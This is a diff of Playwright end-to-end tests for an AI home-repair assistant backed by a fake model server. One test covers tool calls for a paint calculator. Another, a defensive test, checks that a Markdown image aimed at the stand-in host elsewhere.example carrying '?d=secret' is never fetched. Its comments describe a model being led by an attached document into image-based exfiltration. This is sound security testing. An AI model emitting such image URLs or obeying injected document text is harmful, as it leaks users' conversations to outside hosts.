@@ -1,8 +1,11 @@
 import { expect, test, type Page } from '@playwright/test';
+import { exfiltrationQuestion, paintQuestion } from '../../src/server/test/model-scripts';
 import { signUpViaApi } from './support/accounts';
 import { modelAppUrl, setFakeModelMode } from './support/ports';
 
-// These journeys run against the app configured with a (fake) OpenAI-compatible model server.
+// These journeys run against the app configured with a (fake) OpenAI-compatible model server:
+// its scripted conversations (tool calls, a reply with an outside image) and its failures. One
+// file, run in order, because the failures switch the shared server's mode (even off).
 test.use({ baseURL: modelAppUrl });
 test.describe.configure({ mode: 'serial' });
 
@@ -22,6 +25,86 @@ test('a model that streams works end to end', async ({ page }) => {
   await page.goto('/dashboard');
   await ask(page, 'How do I fix a dripping faucet?');
   await expect(page.getByText('Swap the cartridge', { exact: true })).toBeVisible();
+});
+
+// The model reads an entry, uses our paint calculator and records the project through tool
+// calls streamed over HTTP.
+test('a model reply shows its sources, our calculator’s numbers and the recorded project', async ({
+  page,
+}) => {
+  await setFakeModelMode('ok');
+  await signUpViaApi(page.context().request, modelAppUrl);
+  await page.goto('/dashboard');
+  await expect(page.locator('html[data-hydrated]')).toBeAttached();
+  await ask(page, paintQuestion);
+
+  const conversation = page.getByRole('list', { name: 'Conversation' });
+  await expect(conversation.getByRole('heading', { name: 'Paint a bedroom' })).toBeVisible();
+  await expect(conversation.getByText('Worked out with Fixwise calculators')).toBeVisible();
+  await expect(conversation.getByText('3 gallons')).toBeVisible();
+
+  const sources = conversation.getByRole('region', { name: 'Sources' });
+  await expect(
+    sources.getByText('Caulk Baseboards and Interior Trim Before Painting'),
+  ).toBeVisible();
+
+  const panel = page.getByRole('complementary', { name: 'Project panel' });
+  await expect(panel.getByText('Interior paint')).toBeVisible();
+
+  // Stored with the reply: a reload shows the same sources.
+  await page.reload();
+  await expect(
+    page
+      .getByRole('list', { name: 'Conversation' })
+      .getByRole('region', { name: 'Sources' })
+      .getByText('Caulk Baseboards and Interior Trim Before Painting'),
+  ).toBeVisible();
+});
+
+// Text a model read (an attached document) can make it write an image whose address carries
+// the conversation elsewhere. The reply renderer shows no such image, and the page's img-src
+// refuses other hosts even if something did put one in the page.
+test('a reply’s Markdown image to another host fetches nothing', async ({ page }) => {
+  const elsewhere: string[] = [];
+  const answered: string[] = [];
+  const refused: string[] = [];
+  page.on('request', (request) => {
+    if (request.url().includes('elsewhere.example')) elsewhere.push(request.url());
+  });
+  page.on('response', (response) => {
+    if (response.url().includes('elsewhere.example')) answered.push(response.url());
+  });
+  page.on('requestfailed', (request) => {
+    if (request.url().includes('elsewhere.example')) refused.push(request.failure()!.errorText);
+  });
+  await setFakeModelMode('ok');
+  await signUpViaApi(page.context().request, modelAppUrl);
+  await page.goto('/dashboard');
+  await expect(page.locator('html[data-hydrated]')).toBeAttached();
+  await ask(page, exfiltrationQuestion);
+
+  const conversation = page.getByRole('list', { name: 'Conversation' });
+  await expect(conversation.getByText('[image: x]')).toBeVisible();
+  await expect(conversation.locator('img[src*="elsewhere"]')).toHaveCount(0);
+  expect(elsewhere).toEqual([]);
+
+  // Were an image element to get into the page anyway, the policy stops its request before it
+  // leaves the browser.
+  const blocked = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) =>
+          resolve(`${event.violatedDirective} ${event.blockedURI}`),
+        );
+        setTimeout(() => resolve('no policy violation'), 5000);
+        const img = document.createElement('img');
+        img.src = 'https://elsewhere.example/p.png?d=secret';
+        document.body.append(img);
+      }),
+  );
+  expect(blocked).toBe('img-src https://elsewhere.example/p.png?d=secret');
+  await expect.poll(() => refused).toEqual(['csp']);
+  expect(answered).toEqual([]);
 });
 
 test('a model that rejects our key: AI Service Error, message kept', async ({ page }) => {
